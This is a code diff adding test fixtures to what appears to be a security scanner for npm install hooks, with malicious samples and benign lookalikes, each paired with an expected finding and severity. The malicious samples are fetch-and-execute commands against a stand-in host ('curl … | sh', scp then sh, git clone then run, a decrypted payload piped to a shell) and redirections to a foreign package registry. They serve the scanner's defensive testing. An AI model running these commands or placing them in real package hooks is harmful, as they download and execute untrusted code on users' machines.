@@ -163,8 +163,71 @@ export const samples: Samples = {
       ),
       expected: [at('inline-code', 'medium'), at('download-and-run', 'critical')],
     },
+    {
+      name: 'a file of the package that a shell is fed through a filter',
+      files: hooked('tail -n1 NOTES.md | sh', { 'NOTES.md': '# Notes\ncurl -s http://a.weir.test/x | sh\n' }),
+      expected: [at('download-and-run', 'critical', 'NOTES.md', 1)],
+    },
+    {
+      name: 'a download that is run from a file which was written before',
+      files: hooked("echo 'curl -s http://a.weir.test/x | sh' > /tmp/j; sh /tmp/j"),
+      expected: [at('download-and-run', 'critical')],
+    },
+    {
+      name: 'two brackets around a command',
+      files: hooked('((curl -s http://a.weir.test/x | sh))'),
+      expected: [at('download-and-run', 'critical')],
+    },
+    {
+      name: 'something decoded that a shell runs',
+      files: hooked('openssl enc -d -aes-256-cbc -k x -in a.bin | sh', { 'a.bin': 'x' }),
+      expected: [at('unread-code', 'medium')],
+      complete: false,
+    },
+    {
+      name: 'a repository that is fetched and run',
+      files: hooked('git clone --depth 1 https://a.weir.test/r.git /tmp/r && sh /tmp/r/i.sh'),
+      expected: [at('download-and-run', 'high')],
+    },
+    {
+      name: 'a repository whose folder is gone into',
+      files: hooked('git clone https://a.weir.test/r.git && cd r && npm install'),
+      expected: [at('download-and-run', 'high')],
+    },
+    {
+      name: 'a repository that is only fetched',
+      files: hooked('git clone https://github.com/weir-test/data.git data'),
+      expected: [at('download', 'medium')],
+    },
+    {
+      name: 'a file of another machine',
+      files: hooked('scp a.weir.test:/x /tmp/x && sh /tmp/x'),
+      expected: [at('download-and-run', 'critical')],
+    },
+    {
+      name: 'a package of a repository',
+      files: hooked('npx github:weir-test/x'),
+      expected: [at('remote-install', 'medium')],
+    },
+    {
+      name: 'a registry of its own',
+      files: hooked('npm i x --registry=https://a.weir.test'),
+      expected: [at('foreign-registry', 'high')],
+    },
+    {
+      name: 'a registry for all that follows',
+      files: hooked('npm config set registry https://a.weir.test/npm'),
+      expected: [at('foreign-registry', 'high')],
+    },
   ],
   benign: [
+    quiet(
+      'a value that is handed on',
+      hooked(`node -p "require('./package.json').version" | xargs npm version && cat VERSION | tr a b`),
+    ),
+    quiet('an agent that says what its caller is to set', hooked('eval "$(ssh-agent -s)"')),
+    quiet('counting in a shell', hooked('i=1; ((i++)); ((i = i * 2)); node -e 1')),
+    quiet('a mirror', hooked('npm i x --registry=https://registry.weir.test')),
     quiet('a script of the Mac that tells something', {
       'package.json': manifest({ main: 'index.js' }),
       'index.js': `require('child_process').execFile('osascript', ['-e', 'display notification "Done"']);\n`,
